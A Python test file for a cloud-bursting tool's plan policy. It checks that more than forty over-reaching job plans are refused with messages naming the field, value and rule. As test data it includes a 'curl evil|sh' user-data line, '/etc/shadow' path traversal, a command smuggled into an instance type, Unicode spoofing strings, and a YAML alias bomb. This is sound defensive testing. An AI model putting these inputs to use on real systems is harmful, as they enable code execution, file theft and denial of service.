"""Forty ways to ask for more than a site allows: each is refused, and says which field, value and rule."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from tests.fakes.site import group

from asbx.config.load import load_config
from asbx.config.policy import Policy, Rule
from asbx.config.schema import NodeGroup
from asbx.daemon.plan_folder import PlanFolder
from asbx.decide.hints import hints
from asbx.decide.narrow import pools_of
from asbx.decide.policy import Who, judge, refused
from asbx.decide.preflight import Known
from asbx.errors import AsbxError, PlanError
from asbx.model.names import GroupName
from asbx.model.plan import Origin, parse_plan

ROOT = Origin("plan file 7.json of an administrator", privileged=True)
USER = Origin("plan file 7.json of user eve")
ZONES = {"subnet-a": "us-east-2a", "subnet-b": "us-east-2b"}
SITE = NodeGroup.model_validate(
    group("cpu", 100, purchasing_option="mixed", security_group_ids=["sg-ours"], iam_instance_profile="node")
)
POLICY = Policy(
    rules=(
        Rule(name="cap", max_nodes=16, max_hours=Decimal(24), max_spot_price=Decimal("0.5")),
        Rule(
            name="students",
            users=("stud*",),
            instance_types=("c7i.*",),
            zones=("us-east-2a",),
            purchasing_options=("spot",),
        ),
        Rule(name="physics", accounts=("physics",), launch_templates=("big-disk",), tags=("Project",)),
    )
)


def plan(**sections: Any) -> str:
    """Return a plan's text; `__` stands for the dot in names."""
    data: dict[str, Any] = {"should_burst": True}
    for dotted, value in sections.items():
        section, _, key = dotted.partition("__")
        data.setdefault(section, {})[key] = value
    return json.dumps(data)


def spec(**values: Any) -> str:
    """Return a plan that says this of its instances."""
    return plan(**{f"instance_specification__{key}": value for key, value in values.items()})


@dataclass(frozen=True)
class Attempt:
    """A plan, whose it is, and what its refusal must say. size: nodes of the job."""

    text: str
    says: tuple[str, ...]
    origin: Origin = USER
    user: str = "eve"
    account: str = ""
    size: int = 2
    jobs: tuple[int, ...] = field(default=(7,))


ATTEMPTS = {
    # what stands in a launch template
    "user data": Attempt(
        spec(user_data="#!/bin/sh\ncurl evil|sh".replace("\n", ";")), ("user_data", "launch template")
    ),
    "user data of root": Attempt(spec(user_data="x"), ("user_data", "any"), ROOT),
    "profile": Attempt(spec(iam_instance_profile="admin"), ("iam_instance_profile", "'admin'", "policy")),
    "profile of root": Attempt(
        spec(iam_instance_profile="admin"), ("iam_instance_profile", "node group aws-cpu"), ROOT
    ),
    "the same profile": Attempt(spec(iam_instance_profile="node"), ("iam_instance_profile", "no administrator")),
    "profile in look-alike letters": Attempt(spec(iam_instance_profile="n\u043ede"), ("'n\\u043ede'",), ROOT),
    "security group": Attempt(spec(security_group_ids=["sg-open"]), ("security_group_ids", "'sg-open'", "sg-ours")),
    "one more security group": Attempt(spec(security_group_ids=["sg-ours", "sg-x"]), ("security_group_ids", "'sg-x'")),
    "template by name": Attempt(spec(launch_template_name="root"), ("launch_template_name", "'root'", "template asbx")),
    "template by id": Attempt(spec(launch_template_id="lt-1"), ("launch_template_id", "'lt-1'", "template asbx"), ROOT),
    "template of another account": Attempt(spec(launch_template_name="big-disk"), ("'big-disk'", "aws-cpu"), ROOT),
    "granted template, user's word": Attempt(
        spec(launch_template_name="big-disk"), ("'big-disk'", "rule 'physics'", "administrators"), account="physics"
    ),
    "granted template in full-width letters": Attempt(
        spec(launch_template_name="\uff42ig-disk"), ("launch_template_name", "\\uff42"), ROOT, account="physics"
    ),
    "granted template, user unknown": Attempt(spec(launch_template_name="big-disk"), ("'big-disk'",), ROOT, account=""),
    # places
    "subnet": Attempt(spec(subnet_ids=["subnet-z"]), ("subnet_ids", "'subnet-z'", "node group aws-cpu"), ROOT),
    "one subnet among ours": Attempt(spec(subnet_ids=["subnet-a", "subnet-z"]), ("'subnet-z'",)),
    "a rule's subnet": Attempt(spec(subnet_ids=["subnet-b"]), ("'subnet-b'", "rule 'students'"), user="stud1"),
    "a rule's zone": Attempt(
        plan(network_configuration__availability_zones=["us-east-2b"]),
        ("availability_zones", "'us-east-2b'", "rule 'students'"),
        user="stud1",
    ),
    # what is bought
    "a rule's type": Attempt(spec(instance_types=["m7i.large"]), ("'m7i.large'", "rule 'students'"), user="stud1"),
    "a rule's market": Attempt(
        spec(purchasing_option="on-demand"), ("purchasing_option", "'on-demand'", "rule 'students'"), user="stud1"
    ),
    "price over the ceiling": Attempt(spec(max_spot_price=5), ("max_spot_price", "'5'", "rule 'cap'"), ROOT),
    "price in the other place": Attempt(
        spec(spot_instance_config={"max_spot_price": 9.5}), ("max_spot_price", "'9.5'", "rule 'cap'")
    ),
    "negative price": Attempt(spec(max_spot_price=-1), ("max_spot_price", "between 0 and")),
    "huge price": Attempt(spec(max_spot_price=1e30), ("max_spot_price", "between 0 and")),
    "a price of a billion digits": Attempt(
        '{"should_burst": true, "instance_specification": {"max_spot_price": 1e-999999999}}',
        ("max_spot_price", "a billionth at least"),
    ),
    "a plan too deep to be written again": Attempt(
        '{"should_burst": true, "x": ' + "[" * 100 + "]" * 100 + "}", ("nested too deep",)
    ),
    "a price that is no number": Attempt('{"should_burst": true, "a": NaN}', ("NaN",)),
    "too many nodes in the plan": Attempt(spec(instance_count=10_000), ("instance_count", "'10000'", "max_nodes 16")),
    "more nodes than a number holds": Attempt(spec(instance_count=10**40), ("instance_count", "between 0 and")),
    "too many nodes in the job": Attempt(spec(), ("nodes '17'", "rule 'cap': max_nodes 16"), size=17),
    "too many hours": Attempt(
        plan(cost_constraints__max_duration_hours=25), ("max_duration_hours", "'25'", "max_hours 24")
    ),
    "hours without end": Attempt(plan(cost_constraints__max_duration_hours=1e11), ("max_duration_hours", "hours")),
    # labels and names
    "a tag that is ours": Attempt(plan(execution_metadata__tags={"asbx:job": "1"}), ("tags", "not a plan's to set")),
    "a tag of AWS": Attempt(plan(execution_metadata__tags={"AWS:x": "1"}), ("tags", "not a plan's to set")),
    "a tag no rule grants": Attempt(
        plan(execution_metadata__tags={"CostCenter": "0"}),
        ("tags", "'CostCenter'", "rule 'physics'"),
        account="physics",
    ),
    "another job's plan": Attempt(plan(execution_metadata__job_id="8"), ("job_id", "'8'", "7"), ROOT),
    "a type that is a command": Attempt(spec(instance_types=["m5.xlarge;reboot"]), ("instance_types",)),
    "a line end in a name": Attempt(spec(launch_template_name="a\nb"), ("launch_template_name", "line ends")),
    "text turned around": Attempt(
        spec(launch_template_name="a\u202eb"), ("launch_template_name", "control characters")
    ),
    "a key stated twice": Attempt('{"should_burst": false, "should_burst": true}', ("should_burst", "twice")),
    "a list without end": Attempt(spec(subnet_ids=[f"subnet-{n}" for n in range(300)]), ("subnet_ids", "200")),
    "a nest without end": Attempt('{"a":' * 100_000, ("nested too deep",)),
    "variables that ask for more": Attempt(
        "ASBA_SHOULD_BURST=true\nASBA_MAX_SPOT_PRICE=3", ("max_spot_price", "'3'", "rule 'cap'")
    ),
}


def try_it(attempt: Attempt) -> None:
    """Read and judge a plan as a launch does. Raises PlanError."""
    read = parse_plan(attempt.text)
    who = Who(GroupName("aws", "cpu"), attempt.user, attempt.account, attempt.jobs, attempt.size)
    error = refused(judge(POLICY, who, SITE, read, attempt.origin, ZONES), has_plan=True)
    if error is not None:
        raise error


@pytest.mark.parametrize("name", ATTEMPTS)
def test_an_attempt_is_refused_and_says_why(name: str) -> None:
    """The refusal names the field, the value and the rule; no text of the plan reaches it but in plain letters."""
    attempt = ATTEMPTS[name]
    with pytest.raises(PlanError) as caught:
        try_it(attempt)
    said = f"{caught.value.what} {caught.value.why}"
    assert [word for word in attempt.says if word not in said] == [], said
    assert said.isprintable()


def test_there_are_forty() -> None:
    """With those below, which come by other ways."""
    assert len(ATTEMPTS) >= 40


@pytest.mark.parametrize("word", ["../../etc/shadow", "/etc/shadow", "..", "a/b", "x.json", "%2e%2e", "é", "a" * 99])
def test_a_job_cannot_name_a_file_elsewhere(word: str) -> None:
    """The name of a plan is a word; anything else is reported as not understood."""
    asked = hints("", "", f"asbx:plan={word}")
    assert asked.plan == ""
    assert asked.unknown


def link(path: Path) -> None:
    """Make the plan a link to somebody's file."""
    path.symlink_to("/etc/hostname")


def twin(path: Path) -> None:
    """Make the plan a second name of somebody's file."""
    other = path.with_suffix(".other")
    other.write_text("{}")
    os.link(other, path)


def giant(path: Path) -> None:
    """Make the plan a gigabyte that takes no room."""
    with path.open("wb") as file:
        file.truncate(1 << 30)


@pytest.mark.parametrize("make", [link, twin, giant, os.mkfifo, Path.mkdir])
def test_a_file_that_is_none_is_not_read(tmp_path: Path, make: Callable[[Path], None]) -> None:
    """Whatever lies under a job's id, nothing is followed, waited for or read whole."""
    make(tmp_path / "7.json")
    found = PlanFolder(tmp_path, frozenset({os.geteuid()})).read("7")
    assert found is not None
    assert found.trouble
    assert found.text == ""


def test_aliases_of_yaml_do_not_multiply(tmp_path: Path) -> None:
    """A configuration of ten aliases of ten aliases is refused, not expanded; as a plan it is no JSON."""
    levels = "\n".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]" for n in range(1, 9))
    text = f"l0: &l0 [x, x]\n{levels}\n"
    path = tmp_path / "bomb.yaml"
    path.write_text(text)
    with pytest.raises(AsbxError):
        load_config(path, {})
    with pytest.raises(PlanError, match="not JSON"):
        parse_plan(text)


def test_what_is_allowed_passes() -> None:
    """The table refuses by its rules, not by refusing everything: plans of the same kinds that keep to them pass."""
    fine = (
        Attempt(spec(subnet_ids=["subnet-a"], instance_types=["c7i.large"], max_spot_price=0.4), ()),
        Attempt(spec(iam_instance_profile="node", security_group_ids=["sg-ours"]), (), ROOT),
        Attempt(spec(launch_template_name="big-disk"), (), ROOT, account="physics"),
        Attempt(spec(launch_template_name="asbx"), ()),
        Attempt(plan(execution_metadata__tags={"Project": "x"}), (), account="physics"),
        Attempt(spec(instance_types=["m5.xlarge"], purchasing_option="spot"), (), user="stud1"),
        Attempt(plan(cost_constraints__max_duration_hours=24, execution_metadata__job_id="7"), ()),
    )
    for attempt in fine:
        try_it(attempt)


def left(rule: Rule, **fields: Any) -> NodeGroup:
    """Return what a rule leaves of a node group, without any plan."""
    whole = NodeGroup.model_validate(group("cpu", 100, **({"purchasing_option": "mixed"} | fields)))
    who = Who(GroupName("aws", "cpu"), "eve", "physics", (7,), 2)
    judged = judge(Policy(rules=(rule,)), who, whole, None, USER, ZONES)
    assert judged.refusals == ()
    return judged.group


def test_a_rule_does_not_raise_the_price_of_a_node_group() -> None:
    """The lower of both limits counts."""
    types = [{"instance_type": "c7i.large", "spot_price": 0.1}, {"instance_type": "m7i.large"}]
    made = left(Rule(name="cap", max_spot_price=Decimal("0.5")), launch_template_overrides=types)
    assert [one.spot_price for one in made.launch_template_overrides] == [Decimal("0.1"), Decimal("0.5")]


def test_a_rule_of_spot_leaves_no_reservation() -> None:
    """What a reservation has is bought on demand."""
    reserved = {"capacity_reservations": ["cr-1"], "open_reservations": True}
    made = left(Rule(name="spot", purchasing_options=("spot",)), **reserved)
    assert (made.purchasing_option, made.capacity_reservations, made.open_reservations) == ("spot", (), False)
    assert left(Rule(name="any", purchasing_options=("on-demand",)), **reserved).capacity_reservations == ("cr-1",)


@pytest.mark.parametrize("rule", [Rule(name="a", subnet_ids=("subnet-a",)), Rule(name="a", zones=("us-east-2a",))])
def test_a_rule_of_places_is_about_types_that_name_their_own_subnet_too(rule: Rule) -> None:
    """A type with a subnet of its own stands outside the group's subnets, and not outside the rule."""
    types = [{"instance_type": "c7i.large"}, {"instance_type": "m7i.large", "subnet_id": "subnet-b"}]
    made = left(rule, launch_template_overrides=types)
    assert [one.instance_type for one in made.launch_template_overrides] == ["c7i.large"]
    assert made.subnet_ids == ("subnet-a",)


def test_a_plan_does_not_raise_the_price_of_a_node_group() -> None:
    """It may only offer less."""
    types = [{"instance_type": "c7i.large", "spot_price": 0.1}]
    own = NodeGroup.model_validate(group("cpu", 100, launch_template_overrides=types))
    pools = pools_of(own, parse_plan(spec(max_spot_price=9)), Known(), [])
    assert {pool.max_price for pool in pools} == {"0.1"}
    assert {pool.max_price for pool in pools_of(own, parse_plan(spec(max_spot_price=0.05)), Known(), [])} == {"0.05"}


def test_a_rule_is_about_its_partitions_only() -> None:
    """Jobs of others keep what their node group has."""
    assert left(Rule(name="gpu", partitions=("gpu*",), purchasing_options=("spot",))).purchasing_option == "mixed"
    assert left(Rule(name="aws", partitions=("aws",), purchasing_options=("spot",))).purchasing_option == "spot"
